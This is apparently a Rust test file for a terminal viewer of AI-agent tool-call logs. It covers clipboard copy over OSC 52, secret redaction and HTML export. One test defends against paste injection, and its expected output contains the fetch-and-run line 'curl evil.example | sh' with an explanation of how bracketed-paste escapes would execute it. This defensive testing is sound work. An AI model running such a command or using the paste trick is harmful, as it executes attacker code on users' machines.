//! Copy keys on a headless app: `y` queues an OSC 52 sequence with the call's input for the
//! loop to write, and says so in the status bar.

use base64::Engine;
use crossterm::event::KeyCode;
use rawpv::app::App;
use rawpv::import;
use rawpv::session::Item;
use rawpv::source::DEMO;

#[test]
fn y_queues_the_input_as_osc52() {
    let mut app = App::headless(import::load_bytes(DEMO.as_bytes()).items, "demo");
    let s = app.session();
    let row = s
        .items
        .iter()
        .position(|it| matches!(it, Item::Invocation(k) if s.invocations[*k].tool_name == "Bash"))
        .expect("a Bash call in the demo");
    let Item::Invocation(k) = &s.items[row] else {
        unreachable!()
    };
    let input = s.invocations[*k].input.clone();
    let row = app.view().row_of(row).expect("visible");
    app.select(row);
    app.press(KeyCode::Char('y'));
    let text = clipboard_text(&mut app);
    let copied: serde_json::Value = serde_json::from_slice(&text).expect("JSON input");
    assert_eq!(copied, input);
    assert!(
        app.view()
            .message
            .as_deref()
            .is_some_and(|m| m.starts_with("copied the input (")),
        "{:?}",
        app.view().message
    );
}

/// `rawpv FILE`, then the file is truncated while the viewer is open: `y`, `Y` and `r` must say
/// the input / output cannot be read back, not put the "(… not available: …)" stand-in on the
/// clipboard and claim "copied the input".
#[test]
fn copy_of_a_call_whose_file_was_truncated_says_so_and_copies_nothing() {
    use std::io::Write;
    let mut f = tempfile::NamedTempFile::new().unwrap();
    let frames = [
        serde_json::json!({"type": "tool.invoke.request", "payload": {"invocation_id": "a", "tool_name": "Bash", "input": {"command": "echo the input"}}}),
        serde_json::json!({"type": "tool.invoke.result", "payload": {"invocation_id": "a", "tool_name": "Bash", "status": "success", "output_type": "text", "output": "the output"}}),
    ];
    for fr in &frames {
        writeln!(f, "{fr}").unwrap();
    }
    f.flush().unwrap();
    let (session, _) = rawpv::source::file::fold_path(f.path()).unwrap();
    let inv = &session.invocations[0];
    assert!(
        inv.input_span.is_some() && inv.output_span.is_some(),
        "both stay in the file"
    );
    let row = inv.item;
    let mut app = App::new("file", false);
    *app.session_mut() = session;
    app.update(rawpv::app::Msg::Source(rawpv::source::SourceMsg::Eof));
    let row = app.view().row_of(row).expect("visible");
    app.select(row);
    // Before: the real input is copied.
    app.press(KeyCode::Char('y'));
    assert!(
        app.take_clipboard_out().is_some(),
        "{:?}",
        app.view().message
    );
    f.as_file().set_len(0).unwrap();
    for (key, what) in [('y', "input"), ('Y', "output"), ('r', "raw JSON")] {
        app.press(KeyCode::Char(key));
        assert_eq!(app.take_clipboard_out(), None, "{key} copied a stand-in");
        let msg = app.view().message.clone().unwrap_or_default();
        assert!(
            msg.starts_with(&format!("cannot copy the {what}: "))
                && msg.contains("the file is shorter than when it was read"),
            "{key}: {msg}"
        );
    }
}

/// Issue 14.10: `Y` put raw ESC, C1 and bidi bytes on the clipboard; a copied `ESC[201~` and a
/// newline end a shell's bracketed paste, so what follows runs on paste. They are removed, and
/// the status bar says how many.
#[test]
fn copied_output_has_no_control_characters_and_says_what_went() {
    let items = import::load_bytes(include_bytes!("../fixtures/hostile_paste.ndjson")).items;
    let mut app = App::headless(items, "paste");
    app.select(0);
    app.press(KeyCode::Char('Y'));
    let text = clipboard_text(&mut app);
    assert_eq!(
        String::from_utf8(text).expect("UTF-8"),
        "harmless[201~\ncurl evil.example | sh\n31mok\n"
    );
    assert_eq!(
        app.view().message.as_deref(),
        Some("copied the output (43 bytes) to the clipboard; 4 control characters removed")
    );
}

/// The text of the OSC 52 sequence the app queued for the loop to write.
#[allow(clippy::expect_used)]
fn clipboard_text(app: &mut App) -> Vec<u8> {
    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
    let b64 = seq
        .strip_prefix("\x1b]52;c;")
        .and_then(|s| s.strip_suffix('\x07'))
        .expect("OSC 52 framing");
    base64::engine::general_purpose::STANDARD
        .decode(b64)
        .expect("base64")
}

/// `S` makes copies go through the redaction pass (issue 26): `Y` on the secrets fixture's env
/// output copies `[REDACTED: kind]` in place of each key and says how many; `S` again copies
/// the output as recorded.
#[test]
fn s_redacts_what_is_copied_and_says_so() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/export/secrets.ndjson"
    );
    let items = import::load_bytes(&std::fs::read(path).unwrap()).items;
    let mut app = App::headless(items, "secrets.ndjson");
    let row = app
        .session()
        .items
        .iter()
        .position(|it| matches!(it, Item::Invocation(0)))
        .unwrap();
    let row = app.view().row_of(row).expect("visible");
    app.select(row);
    app.press(KeyCode::Char('S'));
    assert_eq!(
        app.view().message.as_deref(),
        Some("copies redact secrets ([REDACTED: kind])")
    );
    app.press(KeyCode::Char('Y'));
    let text = String::from_utf8(clipboard_text(&mut app)).unwrap();
    assert_eq!(
        text,
        "OPENAI_API_KEY=[REDACTED: openai-api-key]\nAWS_ACCESS_KEY_ID=[REDACTED: aws-access-token]\n\
         AWS_SECRET_ACCESS_KEY=[REDACTED: generic-api-key]\nGITHUB_TOKEN=[REDACTED: github-pat]\n"
    );
    let msg = app.view().message.clone().unwrap_or_default();
    assert!(
        msg.starts_with(
            "copied the output (redacted 4 secrets: 1 aws-access-token, 1 generic-api-key, \
             1 github-pat, 1 openai-api-key)"
        ),
        "{msg}"
    );
    app.press(KeyCode::Char('S'));
    app.press(KeyCode::Char('Y'));
    let text = String::from_utf8(clipboard_text(&mut app)).unwrap();
    assert!(
        text.contains("GITHUB_TOKEN=ghp_R7x2Kq9Lm4Np8Tv3Wy6Zb1Cd5Fg0Hj2Kl7Mn"),
        "{text}"
    );
}

/// The path an export's status message names (`exported N calls to PATH (…)`).
fn exported_path(message: Option<&str>) -> std::path::PathBuf {
    let m = message.unwrap_or_default();
    let Some((_, rest)) = m
        .strip_prefix("exported ")
        .and_then(|r| r.split_once(" to "))
    else {
        panic!("not an export's outcome: {m:?}");
    };
    let Some((path, _)) = rest.rsplit_once(" (") else {
        panic!("no redaction note: {m:?}");
    };
    std::path::PathBuf::from(path)
}

/// `X` on the headless harness: the key leaves the page to a job ("exporting…" meanwhile),
/// the job's outcome says where the page went, and the file holds the session's page.
#[test]
fn x_exports_on_a_job_and_says_where() {
    let mut app = App::headless(import::load_bytes(DEMO.as_bytes()).items, "demo");
    let calls = app.session().invocations.len();
    app.press(KeyCode::Char('X'));
    assert_eq!(
        app.view().message.as_deref(),
        Some("exporting the session…")
    );
    // A second `X` while the first is pending does not start another.
    app.press(KeyCode::Char('X'));
    assert_eq!(
        app.view().message.as_deref(),
        Some("an export is already being written")
    );
    app.run_jobs_inline();
    let m = app.view().message.clone();
    assert!(
        m.as_deref()
            .is_some_and(|m| m.starts_with(&format!("exported {calls} calls to "))),
        "{m:?}"
    );
    let path = exported_path(m.as_deref());
    let page = std::fs::read_to_string(&path).unwrap();
    let _ = std::fs::remove_file(&path);
    assert!(
        page.starts_with("<!DOCTYPE html>"),
        "{}",
        &page[..page.len().min(80)]
    );
    assert!(page.contains("</html>"));
    // Once it is done, `X` exports again.
    app.press(KeyCode::Char('X'));
    assert_eq!(
        app.view().message.as_deref(),
        Some("exporting the session…")
    );
}

/// A screen that ends the key stream once the status bar says how the export went.
struct UntilExported {
    inner: rawpv::app::BackendScreen<ratatui::backend::TestBackend>,
    done: std::rc::Rc<std::cell::Cell<bool>>,
    waker: std::rc::Rc<std::cell::RefCell<Option<std::task::Waker>>>,
}

impl rawpv::app::Screen for UntilExported {
    fn size(&self) -> std::io::Result<ratatui::layout::Size> {
        self.inner.size()
    }
    fn draw(&mut self, f: impl FnOnce(&mut ratatui::Frame<'_>)) -> std::io::Result<()> {
        self.inner.draw(f)
    }
    fn write_raw(&mut self, seq: &str) -> std::io::Result<()> {
        self.inner.write_raw(seq)
    }
    fn suspend(&mut self) -> std::io::Result<()> {
        self.inner.suspend()
    }
    fn drew(&mut self, app: &App) {
        let m = app.view().message.as_deref().unwrap_or_default();
        if m.starts_with("exported ") || m.starts_with("cannot export") {
            self.done.set(true);
            if let Some(w) = self.waker.borrow_mut().take() {
                w.wake();
            }
        }
    }
}

/// `X` in the real loop (`run_loop`): the page is built on `spawn_blocking`, its outcome
/// arrives as a message and is drawn in the status bar, and the file is written.
#[tokio::test(flavor = "current_thread")]
async fn x_in_the_loop_writes_the_page_off_the_app_task() {
    use crossterm::event::{Event, KeyEvent, KeyModifiers};
    use std::task::Poll;
    let mut app = App::headless(import::load_bytes(DEMO.as_bytes()).items, "demo");
    let (tx, rx) = tokio::sync::mpsc::channel(1);
    drop(tx);
    let done = std::rc::Rc::new(std::cell::Cell::new(false));
    let waker = std::rc::Rc::new(std::cell::RefCell::new(None));
    let mut sent = false;
    let events = futures::stream::poll_fn({
        let done = done.clone();
        let waker = waker.clone();
        move |cx| {
            if done.get() {
                return Poll::Ready(None);
            }
            if !sent {
                sent = true;
                let key = KeyEvent::new(KeyCode::Char('X'), KeyModifiers::NONE);
                return Poll::Ready(Some(Ok(Event::Key(key))));
            }
            *waker.borrow_mut() = Some(cx.waker().clone());
            Poll::Pending
        }
    });
    let mut screen = UntilExported {
        inner: rawpv::app::BackendScreen::new(ratatui::backend::TestBackend::new(100, 30), 100, 30)
            .unwrap(),
        done: done.clone(),
        waker,
    };
    tokio::time::timeout(
        std::time::Duration::from_secs(30),
        rawpv::app::run_loop(&mut app, &mut screen, events, rx),
    )
    .await
    .expect("the export's outcome arrives")
    .unwrap();
    assert!(done.get());
    let path = exported_path(app.view().message.as_deref());
    let page = std::fs::read_to_string(&path).unwrap();
    let _ = std::fs::remove_file(&path);
    assert!(page.contains("</html>"));
}

/// `X` on a session backed by a saved file: the job reads the file (nothing of the session is
/// copied on the app task), and the page is the one `rawpv export FILE` writes, but for its
/// nonce, even when `X` comes before the viewer has read the file; on a live session (stdin, a
/// stream) the job copies the session and writes the page of what is shown.
#[test]
fn x_on_a_saved_file_exports_the_file_as_rawpv_export_does() {
    let path = std::path::Path::new("../shared/corpus/claude-code/cc-v2.1.17-bash-errors.jsonl");
    let page_of = |live: bool, fed: bool| {
        use rawpv::app::Msg;
        use rawpv::source::SourceMsg;
        use rawpv::source::file::{FileEvent, ReadOptions, read_path_with};
        let mut app = App::new(path.display().to_string(), live);
        app.session_mut().backing = Some(std::sync::Arc::from(path));
        app.session_mut().max_items = Some(0);
        let mut msgs = Vec::new();
        let opts = ReadOptions {
            defer_outputs: true,
        };
        read_path_with(path, opts, |ev| {
            match ev {
                FileEvent::Batch(b) => msgs.push(SourceMsg::Batch(b)),
                FileEvent::Format(f) => msgs.push(SourceMsg::Format(f)),
                FileEvent::Progress { .. } => {}
            }
            true
        })
        .unwrap();
        if fed {
            for m in msgs {
                app.update(Msg::Source(m));
            }
            app.update(Msg::Source(SourceMsg::Eof));
        }
        app.press(KeyCode::Char('X'));
        app.run_jobs_inline();
        let m = app.view().message.clone();
        let out = exported_path(m.as_deref());
        let page = std::fs::read_to_string(&out).unwrap();
        let _ = std::fs::remove_file(&out);
        page
    };
    let nonce = regex::Regex::new(r"nonce-[0-9a-f]+|nonce=.[0-9a-f]+.").unwrap();
    let mut cli = Vec::new();
    let opts = rawpv::export::Options {
        title: "cc-v2.1.17-bash-errors.jsonl".into(),
        ..rawpv::export::Options::default()
    };
    rawpv::export::write_path(&mut cli, path, rawpv::export::Format::Html, &opts).unwrap();
    let cli = String::from_utf8(cli).unwrap();
    let calls = |page: &str| page.matches("<div class=\"call\"").count();
    assert!(calls(&cli) > 5, "{}", calls(&cli));
    for fed in [true, false] {
        let saved = page_of(false, fed);
        assert_eq!(nonce.replace_all(&saved, "N"), nonce.replace_all(&cli, "N"));
    }
    assert_eq!(calls(&page_of(true, true)), calls(&cli));
    assert_eq!(calls(&page_of(true, false)), 0);
}
